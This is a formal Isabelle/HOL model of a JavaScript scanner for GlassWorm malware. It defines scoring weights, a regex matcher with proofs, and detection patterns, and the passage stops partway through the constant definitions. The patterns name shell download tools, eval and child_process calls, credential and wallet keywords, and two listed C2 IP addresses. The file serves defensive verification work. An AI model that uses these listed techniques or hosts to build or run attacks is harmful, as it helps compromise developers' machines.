theory Spec2Isabelle
  imports Main "HOL-Library.Word" "HOL-Library.Multiset" "HOL-Library.Code_Target_Nat"
begin

section \<open>GlassWorm scanner: a shallow embedding of \<open>scan-glassworm.js\<close>\<close>

text \<open>
  The development follows the source file top down: the content classifier
  \<open>isBinaryLikely\<close>, the scoring policy (\<open>scoreFinding\<close>, \<open>classify\<close>), the regular
  expressions and the string methods that use them, the file inspector \<open>inspect\<close> and
  the worker pool of \<open>main\<close>.

  JavaScript strings are sequences of UTF-16 code units; they are modelled as lists of
  natural numbers. A \<open>Buffer\<close> is a list of bytes. Numbers that the program only ever
  uses as integers (scores, counts) are \<open>int\<close> or \<open>nat\<close>.
\<close>

type_synonym jsstring = "nat list"
type_synonym buffer = "8 word list"

definition str :: "string \<Rightarrow> jsstring" where
  "str s = map of_char s"

subsection \<open>Content classifier (\<open>isBinaryLikely\<close>, lines 62-71)\<close>

text \<open>
  The \<open>for\<close> loop over the sampled bytes. The result \<open>None\<close> is the early
  \<open>return true\<close> on a zero byte; \<open>Some weird\<close> is the counter when the loop runs to
  its end.
\<close>

fun isBinaryLikely_loop :: "buffer \<Rightarrow> nat \<Rightarrow> nat option" where
  "isBinaryLikely_loop [] weird = Some weird"
| "isBinaryLikely_loop (c # cs) weird =
     (if c = 0 then None
      else isBinaryLikely_loop cs (if c < 9 \<or> (c > 13 \<and> c < 32) then weird + 1 else weird))"

text \<open>
  The source's last line is \<open>weird > len * 0.1\<close>, a comparison of doubles. Both
  \<open>weird\<close> and \<open>len\<close> are integers with \<open>len \<le> 4096\<close>, and the double nearest to
  \<open>len * 0.1\<close> lies in the same unit interval \<open>[q, q + 1)\<close> as \<open>len / 10\<close> (it is
  never below \<open>len / 10\<close>, since the double \<open>0.1\<close> is slightly above one tenth), so
  the comparison holds exactly when \<open>10 * weird > len\<close>; that is what is written here.
\<close>

definition isBinaryLikely :: "buffer \<Rightarrow> bool" where
  "isBinaryLikely buf =
     (let len = min (length buf) 4096 in
      case isBinaryLikely_loop (take len buf) 0 of
        None \<Rightarrow> True
      | Some weird \<Rightarrow> 10 * weird > len)"

subsection \<open>Scoring policy (\<open>scoreFinding\<close>, lines 151-172; \<open>classify\<close>, lines 179-184)\<close>

record parts =
  invisInIdentifier :: bool
  invisAnywhere :: bool
  suspiciousWords :: bool
  netFuncs :: bool
  dangerous :: bool
  shellDownload :: bool
  hardcodedIp :: bool
  b64UrlDecoded :: bool
  pkgPostInstall :: bool
  pkgExecNet :: bool
  fileIsExecutableScript :: bool
  knownC2Infrastructure :: bool
  solanaBlockchainC2 :: bool
  googleCalendarC2 :: bool
  credentialTheft :: bool
  vsCodeExtensionAPI :: bool
  cryptoWalletTargeting :: bool
  multipleSignals :: nat

text \<open>The object literal of lines 209-228.\<close>

definition parts0 :: parts where
  "parts0 = \<lparr> invisInIdentifier = False, invisAnywhere = False, suspiciousWords = False,
     netFuncs = False, dangerous = False, shellDownload = False, hardcodedIp = False,
     b64UrlDecoded = False, pkgPostInstall = False, pkgExecNet = False,
     fileIsExecutableScript = False, knownC2Infrastructure = False,
     solanaBlockchainC2 = False, googleCalendarC2 = False, credentialTheft = False,
     vsCodeExtensionAPI = False, cryptoWalletTargeting = False, multipleSignals = 0 \<rparr>"

text \<open>One \<open>if (cond) score += w;\<close> statement.\<close>

definition bump :: "bool \<Rightarrow> int \<Rightarrow> int \<Rightarrow> int" where
  "bump cond w score = (if cond then score + w else score)"

definition scoreFinding :: "parts \<Rightarrow> int" where
  "scoreFinding p =
     (let score = 0;
          score = bump (invisInIdentifier p) 40 score;
          score = bump (invisAnywhere p) 10 score;
          score = bump (suspiciousWords p) 25 score;
          score = bump (netFuncs p) 15 score;
          score = bump (dangerous p) 25 score;
          score = bump (shellDownload p) 35 score;
          score = bump (hardcodedIp p) 20 score;
          score = bump (b64UrlDecoded p) 45 score;
          score = bump (pkgPostInstall p) 40 score;
          score = bump (pkgExecNet p) 30 score;
          score = bump (fileIsExecutableScript p) 10 score;
          score = bump (knownC2Infrastructure p) 60 score;
          score = bump (solanaBlockchainC2 p) 50 score;
          score = bump (googleCalendarC2 p) 50 score;
          score = bump (credentialTheft p) 35 score;
          score = bump (vsCodeExtensionAPI p) 20 score;
          score = bump (cryptoWalletTargeting p) 30 score;
          score = bump (multipleSignals p \<ge> 3) 15 score
      in min score 100)"

datatype level = Critical | High | Medium | Low

definition classify :: "int \<Rightarrow> level" where
  "classify score =
     (if score \<ge> 80 then Critical
      else if score \<ge> 60 then High
      else if score \<ge> 40 then Medium
      else Low)"

text \<open>
  The weight table of section 4.3 of the specification, in the table's order, as a
  list of (signal, weight) pairs read off a signal set. It is the specification's
  side of the comparison with \<open>scoreFinding\<close>.
\<close>

definition weight_table :: "parts \<Rightarrow> (bool \<times> int) list" where
  "weight_table p =
     [(knownC2Infrastructure p, 60), (solanaBlockchainC2 p, 50), (googleCalendarC2 p, 50),
      (b64UrlDecoded p, 45), (invisInIdentifier p, 40), (pkgPostInstall p, 40),
      (credentialTheft p, 35), (shellDownload p, 35), (cryptoWalletTargeting p, 30),
      (pkgExecNet p, 30), (dangerous p, 25), (suspiciousWords p, 25),
      (vsCodeExtensionAPI p, 20), (hardcodedIp p, 20), (netFuncs p, 15),
      (multipleSignals p \<ge> 3, 15), (invisAnywhere p, 10), (fileIsExecutableScript p, 10)]"

definition table_score :: "parts \<Rightarrow> int" where
  "table_score p = min 100 (sum_list (map (\<lambda>(b, w). if b then w else 0) (weight_table p)))"

text \<open>
  \<open>signals_le p q\<close>: every signal set in \<open>p\<close> is set in \<open>q\<close>, and the count of
  independent signals of \<open>q\<close> is at least that of \<open>p\<close>.
\<close>

definition signals_le :: "parts \<Rightarrow> parts \<Rightarrow> bool" where
  "signals_le p q =
     ((invisInIdentifier p \<le> invisInIdentifier q) \<and> (invisAnywhere p \<le> invisAnywhere q) \<and>
      (suspiciousWords p \<le> suspiciousWords q) \<and> (netFuncs p \<le> netFuncs q) \<and>
      (dangerous p \<le> dangerous q) \<and> (shellDownload p \<le> shellDownload q) \<and>
      (hardcodedIp p \<le> hardcodedIp q) \<and> (b64UrlDecoded p \<le> b64UrlDecoded q) \<and>
      (pkgPostInstall p \<le> pkgPostInstall q) \<and> (pkgExecNet p \<le> pkgExecNet q) \<and>
      (fileIsExecutableScript p \<le> fileIsExecutableScript q) \<and>
      (knownC2Infrastructure p \<le> knownC2Infrastructure q) \<and>
      (solanaBlockchainC2 p \<le> solanaBlockchainC2 q) \<and>
      (googleCalendarC2 p \<le> googleCalendarC2 q) \<and>
      (credentialTheft p \<le> credentialTheft q) \<and>
      (vsCodeExtensionAPI p \<le> vsCodeExtensionAPI q) \<and>
      (cryptoWalletTargeting p \<le> cryptoWalletTargeting q) \<and>
      (multipleSignals p \<le> multipleSignals q))"


subsection \<open>Errors\<close>

text \<open>
  A thrown JavaScript error: its constructor and its \<open>message\<close>. The program throws
  \<open>new Error('timeout')\<close> itself (line 402); the others come from the runtime.
\<close>

datatype js_error = Error string | TypeError string | SyntaxError string

fun message :: "js_error \<Rightarrow> string" where
  "message (Error m) = m"
| "message (TypeError m) = m"
| "message (SyntaxError m) = m"

subsection \<open>String and array methods\<close>

text \<open>\<open>s.slice(b, e)\<close> for non-negative \<open>b\<close> and \<open>e\<close>.\<close>

definition String_slice :: "'a list \<Rightarrow> nat \<Rightarrow> nat \<Rightarrow> 'a list" where
  "String_slice s b e = take (e - b) (drop b s)"

definition startsWith :: "jsstring \<Rightarrow> jsstring \<Rightarrow> bool" where
  "startsWith s p = (take (length p) s = p)"

definition endsWith :: "jsstring \<Rightarrow> jsstring \<Rightarrow> bool" where
  "endsWith s suf = (length suf \<le> length s \<and> drop (length s - length suf) s = suf)"

text \<open>
  \<open>[...new Set(xs)]\<close>: the distinct elements in the order of their first occurrence.
\<close>

fun uniq_from :: "'a list \<Rightarrow> 'a list \<Rightarrow> 'a list" where
  "uniq_from seen [] = []"
| "uniq_from seen (x # xs) =
     (if x \<in> set seen then uniq_from seen xs else x # uniq_from (x # seen) xs)"

definition uniq :: "'a list \<Rightarrow> 'a list" where
  "uniq xs = uniq_from [] xs"

text \<open>
  \<open>toLowerCase\<close>, on the ASCII letters. The program applies it to a file extension and
  compares the result with ASCII extensions only; no character outside ASCII lowers to
  one of their letters in a single code unit.
\<close>

definition toLowerCase :: "jsstring \<Rightarrow> jsstring" where
  "toLowerCase s = map (\<lambda>c. if 65 \<le> c \<and> c \<le> 90 then c + 32 else c) s"

subsection \<open>Regular expressions\<close>

text \<open>
  The patterns of the program use character classes, sequence, alternation, greedy
  quantifiers, groups, \<open>^\<close>, \<open>$\<close> and \<open>\b\<close>; no back-references and no look-around.
  A class is a list of inclusive code-unit ranges.
\<close>

type_synonym ranges = "(nat \<times> nat) list"

datatype rx =
    Cls ranges
  | NCls ranges
  | Eps
  | Seq rx rx
  | Alt rx rx
  | Rep rx nat "nat option"
  | Grp nat rx
  | Bol
  | Eol
  | WordB

text \<open>The captures of a match: (group number, start, end), the latest first.\<close>

type_synonym caps = "(nat \<times> nat \<times> nat) list"

text \<open>
  Case-insensitive matching compares canonical (upper-cased) code units. All letters
  in the patterns of the program that carry the \<open>i\<close> flag are ASCII, and a code unit
  outside ASCII never canonicalises to an ASCII one, so it is enough to look at a code
  unit and at its ASCII case counterpart.
\<close>

definition swapcase :: "nat \<Rightarrow> nat" where
  "swapcase c =
     (if 65 \<le> c \<and> c \<le> 90 then c + 32 else if 97 \<le> c \<and> c \<le> 122 then c - 32 else c)"

definition in_class :: "bool \<Rightarrow> ranges \<Rightarrow> nat \<Rightarrow> bool" where
  "in_class ic rs c =
     list_ex (\<lambda>(lo, hi). (lo \<le> c \<and> c \<le> hi) \<or> (ic \<and> lo \<le> swapcase c \<and> swapcase c \<le> hi)) rs"

definition rng :: "char \<Rightarrow> char \<Rightarrow> nat \<times> nat" where
  "rng a b = (of_char a, of_char b)"

definition one :: "char \<Rightarrow> nat \<times> nat" where
  "one a = (of_char a, of_char a)"

text \<open>\<open>\w\<close>, \<open>\d\<close>, \<open>\s\<close> and the complement of \<open>.\<close> (the line terminators).\<close>

definition word_ranges :: ranges where
  "word_ranges = [rng CHR ''A'' CHR ''Z'', rng CHR ''a'' CHR ''z'', rng CHR ''0'' CHR ''9'',
     one CHR ''_'']"

definition digit_ranges :: ranges where
  "digit_ranges = [rng CHR ''0'' CHR ''9'']"

definition space_ranges :: ranges where
  "space_ranges = [(9, 13), (32, 32), (0xA0, 0xA0), (0x1680, 0x1680), (0x2000, 0x200A),
     (0x2028, 0x2029), (0x202F, 0x202F), (0x205F, 0x205F), (0x3000, 0x3000), (0xFEFF, 0xFEFF)]"

definition line_terminators :: ranges where
  "line_terminators = [(10, 10), (13, 13), (0x2028, 0x2029)]"

definition is_word_at :: "jsstring \<Rightarrow> nat \<Rightarrow> bool" where
  "is_word_at s i = (i < length s \<and> in_class False word_ranges (s ! i))"

definition dec_max :: "nat option \<Rightarrow> nat option" where
  "dec_max mx = (case mx of None \<Rightarrow> None | Some m \<Rightarrow> Some (m - 1))"

fun rep_weight :: "nat \<Rightarrow> nat option \<Rightarrow> nat" where
  "rep_weight mn None = mn"
| "rep_weight mn (Some m) = mn + m"

text \<open>
  \<open>rx_ends ic s r (i, cs)\<close>: the states in which a match of \<open>r\<close> that starts at index
  \<open>i\<close> of \<open>s\<close> with captures \<open>cs\<close> can end, in the order in which a backtracking
  matcher tries them. The head of the list is the match that JavaScript reports.

  A quantifier is greedy: first one more iteration, then none. Once the minimum is
  reached an iteration that consumes nothing is rejected, as in the language
  definition. The bound \<open>j \<le> length s\<close> always holds (\<open>rx_ends_bounds\<close> below); it
  is written out so that termination is evident.
\<close>

function rx_ends :: "bool \<Rightarrow> jsstring \<Rightarrow> rx \<Rightarrow> nat \<times> caps \<Rightarrow> (nat \<times> caps) list" where
  "rx_ends ic s (Cls rs) (i, cs) =
     (if i < length s \<and> in_class ic rs (s ! i) then [(i + 1, cs)] else [])"
| "rx_ends ic s (NCls rs) (i, cs) =
     (if i < length s \<and> \<not> in_class ic rs (s ! i) then [(i + 1, cs)] else [])"
| "rx_ends ic s Eps (i, cs) = [(i, cs)]"
| "rx_ends ic s (Seq a b) (i, cs) = concat (map (rx_ends ic s b) (rx_ends ic s a (i, cs)))"
| "rx_ends ic s (Alt a b) (i, cs) = rx_ends ic s a (i, cs) @ rx_ends ic s b (i, cs)"
| "rx_ends ic s (Grp n r) (i, cs) =
     map (\<lambda>(j, cs'). (j, (n, i, j) # cs')) (rx_ends ic s r (i, cs))"
| "rx_ends ic s Bol (i, cs) = (if i = 0 then [(i, cs)] else [])"
| "rx_ends ic s Eol (i, cs) = (if i = length s then [(i, cs)] else [])"
| "rx_ends ic s WordB (i, cs) =
     (if (0 < i \<and> is_word_at s (i - 1)) \<noteq> is_word_at s i then [(i, cs)] else [])"
| "rx_ends ic s (Rep r mn mx) (i, cs) =
     (if mx = Some 0 then [(i, cs)]
      else concat (map (rx_ends ic s (Rep r (mn - 1) (dec_max mx)))
             (filter (\<lambda>(j, cs'). (0 < mn \<or> i < j) \<and> j \<le> length s) (rx_ends ic s r (i, cs))))
           @ (if mn = 0 then [(i, cs)] else []))"
  by pat_completeness auto
termination
  apply (relation "measures [\<lambda>(ic, s, r, i, cs). size r,
           \<lambda>(ic, s, r, i, cs). (case r of Rep r' mn mx \<Rightarrow> rep_weight mn mx | _ \<Rightarrow> 0),
           \<lambda>(ic, s, r, i, cs). length s - i]")
  apply (auto simp: dec_max_def split: option.splits)
  done

lemmas rx_ends_Rep = rx_ends.simps(10)

declare rx_ends.simps(10) [simp del]

lemma rx_ends_bounds_aux:
  "(j, cs') \<in> set (rx_ends ic s r st) \<Longrightarrow> fst st \<le> length s \<Longrightarrow> fst st \<le> j \<and> j \<le> length s"
proof (induction ic s r st arbitrary: j cs' rule: rx_ends.induct)
  case (4 ic s a b i cs)
  from "4.prems" obtain k ck where k: "(k, ck) \<in> set (rx_ends ic s a (i, cs))"
    and j: "(j, cs') \<in> set (rx_ends ic s b (k, ck))" by auto
  from "4.IH"(1) [OF k] "4.prems"(2) have ik: "i \<le> k \<and> k \<le> length s" by simp
  from "4.IH"(2) [OF k j] ik have "k \<le> j \<and> j \<le> length s" by simp
  with ik show ?case by simp
next
  case (10 ic s r mn mx i cs)
  show ?case
  proof (cases "mx = Some 0")
    case True
    with "10.prems" show ?thesis by (simp add: rx_ends_Rep)
  next
    case False
    from "10.prems" False have
      "(j, cs') \<in> set (concat (map (rx_ends ic s (Rep r (mn - 1) (dec_max mx)))
             (filter (\<lambda>(j, cs'). (0 < mn \<or> i < j) \<and> j \<le> length s) (rx_ends ic s r (i, cs))))
           @ (if mn = 0 then [(i, cs)] else []))"
      by (simp add: rx_ends_Rep)
    then consider
      (iter) k ck where "(k, ck) \<in> set (rx_ends ic s r (i, cs))"
        "(0 < mn \<or> i < k) \<and> k \<le> length s"
        "(j, cs') \<in> set (rx_ends ic s (Rep r (mn - 1) (dec_max mx)) (k, ck))"
      | (stop) "j = i"
      by (auto split: if_splits)
    then show ?thesis
    proof cases
      case iter
      from "10.IH"(1) [OF False iter(1)] "10.prems"(2)
      have ik: "i \<le> k \<and> k \<le> length s" by simp
      have "(k, ck) \<in> set (filter (\<lambda>(j, cs'). (0 < mn \<or> i < j) \<and> j \<le> length s)
              (rx_ends ic s r (i, cs)))"
        using iter(1,2) by simp
      from "10.IH"(2) [OF False this iter(3)] ik have "k \<le> j \<and> j \<le> length s" by simp
      with ik show ?thesis by simp
    next
      case stop
      with "10.prems" show ?thesis by simp
    qed
  qed
qed (auto split: if_splits)

lemma rx_ends_bounds:
  "(j, cs') \<in> set (rx_ends ic s r (i, cs)) \<Longrightarrow> i \<le> length s \<Longrightarrow> i \<le> j \<and> j \<le> length s"
  using rx_ends_bounds_aux [of j cs' ic s r "(i, cs)"] by simp

text \<open>A match: start index, end index and the captures.\<close>

type_synonym rmatch = "nat \<times> nat \<times> caps"

text \<open>The leftmost match at or after index \<open>p\<close>.\<close>

function search_from :: "bool \<Rightarrow> jsstring \<Rightarrow> rx \<Rightarrow> nat \<Rightarrow> rmatch option" where
  "search_from ic s r p =
     (if length s < p then None
      else case rx_ends ic s r (p, []) of
             [] \<Rightarrow> search_from ic s r (p + 1)
           | (e, cs) # _ \<Rightarrow> Some (p, e, cs))"
  by pat_completeness auto
termination
  by (relation "measure (\<lambda>(ic, s, r, p). length s + 1 - p)") auto

declare search_from.simps [simp del]

lemma search_from_bounds:
  "search_from ic s r p = Some (b, e, cs) \<Longrightarrow> p \<le> b \<and> b \<le> e \<and> e \<le> length s"
proof (induction ic s r p rule: search_from.induct)
  case (1 ic s r p)
  note eq = "1.prems" [unfolded search_from.simps [of ic s r p]]
  show ?case
  proof (cases "length s < p")
    case True
    with eq show ?thesis by simp
  next
    case False
    show ?thesis
    proof (cases "rx_ends ic s r (p, [])")
      case Nil
      with False eq "1.IH" show ?thesis by simp
    next
      case (Cons x xs)
      obtain e' cs' where x: "x = (e', cs')" by (cases x)
      with Cons False eq have *: "b = p" "e = e'" "cs = cs'" by simp_all
      from Cons x have "(e', cs') \<in> set (rx_ends ic s r (p, []))" by simp
      from rx_ends_bounds [OF this] False * show ?thesis by simp
    qed
  qed
qed

text \<open>
  The successive matches from index \<open>p\<close> on, as the loop of a global regular
  expression finds them: after an empty match the next search starts one code unit
  further (\<open>AdvanceStringIndex\<close>), after any other match at its end.
\<close>

function all_matches :: "bool \<Rightarrow> jsstring \<Rightarrow> rx \<Rightarrow> nat \<Rightarrow> rmatch list" where
  "all_matches ic s r p =
     (case search_from ic s r p of
        None \<Rightarrow> []
      | Some (b, e, cs) \<Rightarrow> (b, e, cs) # all_matches ic s r (if e = b then e + 1 else e))"
  by pat_completeness auto
termination
proof (relation "measure (\<lambda>(ic, s, r, p). length s + 1 - p)", goal_cases)
  case 1
  show ?case by simp
next
  case (2 ic s r p m b x e cs)
  then have "search_from ic s r p = Some (b, e, cs)" by simp
  from search_from_bounds [OF this] show ?case by auto
qed

declare all_matches.simps [simp del]

text \<open>
  A \<open>RegExp\<close> object: its pattern and the flags \<open>g\<close> and \<open>i\<close>. Its \<open>lastIndex\<close> is
  passed to the methods and returned by them.
\<close>

record regex =
  pattern :: rx
  global :: bool
  ignoreCase :: bool

text \<open>
  \<open>RegExp.prototype.exec\<close>. A global expression starts at \<open>lastIndex\<close> and stores the
  end of the match there (0 after a failure); one without the \<open>g\<close> flag starts at 0
  and leaves \<open>lastIndex\<close> alone.
\<close>

definition RegExp_exec :: "regex \<Rightarrow> nat \<Rightarrow> jsstring \<Rightarrow> rmatch option \<times> nat" where
  "RegExp_exec re lastIndex s =
     (if global re then
        (if length s < lastIndex then (None, 0)
         else case search_from (ignoreCase re) s (pattern re) lastIndex of
                None \<Rightarrow> (None, 0)
              | Some (b, e, cs) \<Rightarrow> (Some (b, e, cs), e))
      else (search_from (ignoreCase re) s (pattern re) 0, lastIndex))"

definition RegExp_test :: "regex \<Rightarrow> nat \<Rightarrow> jsstring \<Rightarrow> bool \<times> nat" where
  "RegExp_test re lastIndex s =
     (case RegExp_exec re lastIndex s of (m, lastIndex') \<Rightarrow> (m \<noteq> None, lastIndex'))"

text \<open>
  \<open>re.test(s)\<close> and \<open>re.exec(s)\<close> for an expression whose \<open>lastIndex\<close> is never
  written: every expression of the program without the \<open>g\<close> flag.
\<close>

definition test :: "regex \<Rightarrow> jsstring \<Rightarrow> bool" where
  "test re s = fst (RegExp_test re 0 s)"

definition exec :: "regex \<Rightarrow> jsstring \<Rightarrow> rmatch option" where
  "exec re s = fst (RegExp_exec re 0 s)"

text \<open>\<open>m[0]\<close> and \<open>m[n]\<close> of a match in \<open>s\<close>; \<open>None\<close> is \<open>undefined\<close>.\<close>

definition m0 :: "jsstring \<Rightarrow> rmatch \<Rightarrow> jsstring" where
  "m0 s m = (case m of (b, e, cs) \<Rightarrow> String_slice s b e)"

definition mgroup :: "jsstring \<Rightarrow> rmatch \<Rightarrow> nat \<Rightarrow> jsstring option" where
  "mgroup s m n =
     (case m of (b, e, cs) \<Rightarrow>
        (case map_of cs n of None \<Rightarrow> None | Some (gb, ge) \<Rightarrow> Some (String_slice s gb ge)))"

text \<open>
  \<open>s.match(re)\<close>: with the \<open>g\<close> flag all matched substrings, or \<open>null\<close> when there is
  none; without it the first match (whose capture entries the program never reads).
\<close>

definition String_match :: "jsstring \<Rightarrow> regex \<Rightarrow> jsstring list option" where
  "String_match s re =
     (if global re then
        (case all_matches (ignoreCase re) s (pattern re) 0 of
           [] \<Rightarrow> None
         | ms \<Rightarrow> Some (map (m0 s) ms))
      else map_option (\<lambda>m. [m0 s m]) (exec re s))"

text \<open>
  \<open>s.matchAll(re)\<close>. The language requires the \<open>g\<close> flag: called with a regular
  expression whose flags do not contain \<open>g\<close>, \<open>String.prototype.matchAll\<close> throws a
  \<open>TypeError\<close> before any matching is done (ECMAScript 2020 and later; the program
  requires Node.js 16 or later, which implements this).
\<close>

definition matchAll_TypeError :: js_error where
  "matchAll_TypeError =
     TypeError ''String.prototype.matchAll called with a non-global RegExp argument''"

definition String_matchAll :: "jsstring \<Rightarrow> regex \<Rightarrow> js_error + rmatch list" where
  "String_matchAll s re =
     (if \<not> global re then Inl matchAll_TypeError
      else Inr (all_matches (ignoreCase re) s (pattern re) 0))"

text \<open>\<open>s.replace(re, rep)\<close> for a replacement without \<open>$\<close> patterns.\<close>

fun splice :: "jsstring \<Rightarrow> jsstring \<Rightarrow> nat \<Rightarrow> rmatch list \<Rightarrow> jsstring" where
  "splice s rep p [] = drop p s"
| "splice s rep p ((b, e, cs) # ms) = String_slice s p b @ rep @ splice s rep e ms"

definition String_replace :: "jsstring \<Rightarrow> regex \<Rightarrow> jsstring \<Rightarrow> jsstring" where
  "String_replace s re rep =
     (if global re then splice s rep 0 (all_matches (ignoreCase re) s (pattern re) 0)
      else (case exec re s of None \<Rightarrow> s | Some m \<Rightarrow> splice s rep 0 [m]))"

text \<open>Building blocks for writing the patterns down.\<close>

definition ch :: "char \<Rightarrow> rx" where
  "ch c = Cls [one c]"

definition lit :: "string \<Rightarrow> rx" where
  "lit s = foldr (\<lambda>c r. Seq (ch c) r) s Eps"

definition alts :: "rx list \<Rightarrow> rx" where
  "alts rs = foldr Alt (butlast rs) (last rs)"

definition seqs :: "rx list \<Rightarrow> rx" where
  "seqs rs = foldr Seq rs Eps"

definition opt :: "rx \<Rightarrow> rx" where
  "opt r = Rep r 0 (Some 1)"

definition star :: "rx \<Rightarrow> rx" where
  "star r = Rep r 0 None"

definition plus1 :: "rx \<Rightarrow> rx" where
  "plus1 r = Rep r 1 None"

definition dot :: rx where
  "dot = NCls line_terminators"

definition digit :: rx where
  "digit = Cls digit_ranges"

subsection \<open>The constants of lines 26-55\<close>

definition MAX_BYTES :: nat where
  "MAX_BYTES = 3 * 1024 * 1024"

definition ALLOWED_EXT :: "jsstring list" where
  "ALLOWED_EXT = map str [''.js'', ''.mjs'', ''.cjs'', ''.ts'', ''.json'', ''.jsx'', ''.tsx'']"

definition IGNORE_FILES :: "jsstring list" where
  "IGNORE_FILES = map str [''LICENSE'', ''CHANGELOG'', ''CHANGES'', ''README'', ''HISTORY'',
     ''NOTICE'', ''yarn.lock'', ''pnpm-lock.yaml'', ''package-lock.json'',
     ''npm-shrinkwrap.json'']"

definition SKIP_SUFFIX :: "jsstring list" where
  "SKIP_SUFFIX = map str [''.min.js'', ''.map'', ''.d.ts'', ''.md'', ''.markdown'', ''.txt'',
     ''.svg'', ''.png'', ''.jpg'', ''.jpeg'', ''.gif'', ''.webp'', ''.wasm'']"

text \<open>
  The class \<open>[\u200B\u200C\u200D\u2060\u2063\u00AD\uFE00-\uFE0F\uFEFF\u180E]\<close> of \<open>INVIS\<close>
  (line 41) and \<open>INVIS_ID\<close> (line 42).
\<close>

definition invis_ranges :: ranges where
  "invis_ranges = [(0x200B, 0x200B), (0x200C, 0x200C), (0x200D, 0x200D), (0x2060, 0x2060),
     (0x2063, 0x2063), (0xAD, 0xAD), (0xFE00, 0xFE0F), (0xFEFF, 0xFEFF), (0x180E, 0x180E)]"

definition INVIS :: regex where
  "INVIS = \<lparr> pattern = Cls invis_ranges, global = True, ignoreCase = False \<rparr>"

text \<open>\<open>/([A-Za-z_$][\w$]*[...][\w$]*)/g\<close>\<close>

definition INVIS_ID :: regex where
  "INVIS_ID = \<lparr> pattern = Grp 1 (seqs
       [Cls [rng CHR ''A'' CHR ''Z'', rng CHR ''a'' CHR ''z'', one CHR ''_'', one CHR ''$''],
        star (Cls (word_ranges @ [one CHR ''$''])),
        Cls invis_ranges,
        star (Cls (word_ranges @ [one CHR ''$'']))]),
     global = True, ignoreCase = False \<rparr>"

text \<open>
  \<open>/\b(solana|metaplex|phantom|solscan|rpc(?:Url|\.url)?|calendar\.app\.google|calendar\.google|transaction|memo|getTransaction|getParsedTransaction|wallet|chrome\.storage|browser\.storage)\b/i\<close>
\<close>

definition SUS_WORDS :: regex where
  "SUS_WORDS = \<lparr> pattern = seqs [WordB,
       Grp 1 (alts [lit ''solana'', lit ''metaplex'', lit ''phantom'', lit ''solscan'',
         Seq (lit ''rpc'') (opt (Alt (lit ''Url'') (lit ''.url''))),
         lit ''calendar.app.google'', lit ''calendar.google'', lit ''transaction'',
         lit ''memo'', lit ''getTransaction'', lit ''getParsedTransaction'', lit ''wallet'',
         lit ''chrome.storage'', lit ''browser.storage'']),
       WordB],
     global = False, ignoreCase = True \<rparr>"

text \<open>
  \<open>/\b(fetch|XMLHttpRequest|axios|require\(['"]https?['"]\)|https?\.(get|request))\b/\<close>;
  the quotes are the code units 39 and 34.
\<close>

definition NET_FUNCS :: regex where
  "NET_FUNCS = \<lparr> pattern = seqs [WordB,
       Grp 1 (alts [lit ''fetch'', lit ''XMLHttpRequest'', lit ''axios'',
         seqs [lit ''require('', Cls [(39, 39), (34, 34)], lit ''http'', opt (ch CHR ''s''),
               Cls [(39, 39), (34, 34)], lit '')''],
         seqs [lit ''http'', opt (ch CHR ''s''), lit ''.'',
               Grp 2 (Alt (lit ''get'') (lit ''request''))]]),
       WordB],
     global = False, ignoreCase = False \<rparr>"

text \<open>
  \<open>/\b(eval|Function|child_process|spawn|exec|execFile|PowerShell|WScript\.Shell)\b/\<close>
\<close>

definition DANGEROUS :: regex where
  "DANGEROUS = \<lparr> pattern = seqs [WordB,
       Grp 1 (alts [lit ''eval'', lit ''Function'', lit ''child_process'', lit ''spawn'',
         lit ''exec'', lit ''execFile'', lit ''PowerShell'', lit ''WScript.Shell'']),
       WordB],
     global = False, ignoreCase = False \<rparr>"

text \<open>\<open>/\b(curl|wget|iwr|Invoke-WebRequest)\b.*\b(http|https):\/\//i\<close>\<close>

definition SHELL_DOWNLOAD :: regex where
  "SHELL_DOWNLOAD = \<lparr> pattern = seqs [WordB,
       Grp 1 (alts [lit ''curl'', lit ''wget'', lit ''iwr'', lit ''Invoke-WebRequest'']),
       WordB, star dot, WordB,
       Grp 2 (Alt (lit ''http'') (lit ''https'')),
       lit ''://''],
     global = False, ignoreCase = True \<rparr>"

text \<open>
  \<open>/\b(?:(?:25[0-5]|2[0-4]\d|[01]?\d?\d)(?:\.(?:25[0-5]|2[0-4]\d|[01]?\d?\d)){3})\b/\<close>.
  The literal of line 47 has no flag.
\<close>

definition octet :: rx where
  "octet = alts [Seq (lit ''25'') (Cls [rng CHR ''0'' CHR ''5'']),
                 seqs [lit ''2'', Cls [rng CHR ''0'' CHR ''4''], digit],
                 seqs [opt (Cls [rng CHR ''0'' CHR ''1'']), opt digit, digit]]"

definition IP :: regex where
  "IP = \<lparr> pattern = seqs [WordB, Seq octet (Rep (Seq (lit ''.'') octet) 3 (Some 3)), WordB],
     global = False, ignoreCase = False \<rparr>"

text \<open>
  \<open>/(?:^|[^A-Za-z0-9+\/=])([A-Za-z0-9+\/]{80,200}={0,2})(?:[^A-Za-z0-9+\/=]|$)/g\<close>
\<close>

definition b64_ranges :: ranges where
  "b64_ranges = [rng CHR ''A'' CHR ''Z'', rng CHR ''a'' CHR ''z'', rng CHR ''0'' CHR ''9'',
     one CHR ''+'', one CHR ''/'']"

definition B64 :: regex where
  "B64 = \<lparr> pattern = seqs
       [Alt Bol (NCls (b64_ranges @ [one CHR ''=''])),
        Grp 1 (Seq (Rep (Cls b64_ranges) 80 (Some 200)) (Rep (ch CHR ''='') 0 (Some 2))),
        Alt (NCls (b64_ranges @ [one CHR ''=''])) Eol],
     global = True, ignoreCase = False \<rparr>"

text \<open>
  \<open>/https?:\/\/[^\s"'`<>{}]+/i\<close>; the quotes and the backtick are the code units 34,
  39 and 96.
\<close>

definition HTTP :: regex where
  "HTTP = \<lparr> pattern = seqs [lit ''http'', opt (ch CHR ''s''), lit ''://'',
       plus1 (NCls (space_ranges @ [(34, 34), (39, 39), (96, 96), one CHR ''<'', one CHR ''>'',
         one CHR ''{'', one CHR ''}'']))],
     global = False, ignoreCase = True \<rparr>"

text \<open>\<open>/\b[1-9A-HJ-NP-Za-km-z]{32,44}\b/\<close>. The literal of line 50 has no flag.\<close>

definition SOLANA_WALLET :: regex where
  "SOLANA_WALLET = \<lparr> pattern = seqs [WordB,
       Rep (Cls [rng CHR ''1'' CHR ''9'', rng CHR ''A'' CHR ''H'', rng CHR ''J'' CHR ''N'',
                 rng CHR ''P'' CHR ''Z'', rng CHR ''a'' CHR ''k'', rng CHR ''m'' CHR ''z''])
           32 (Some 44),
       WordB],
     global = False, ignoreCase = False \<rparr>"

definition KNOWN_C2_IPS :: "jsstring list" where
  "KNOWN_C2_IPS = [str ''217.69.3.218'', str ''140.82.52.31'']"

definition KNOWN_SOLANA_WALLET :: jsstring where
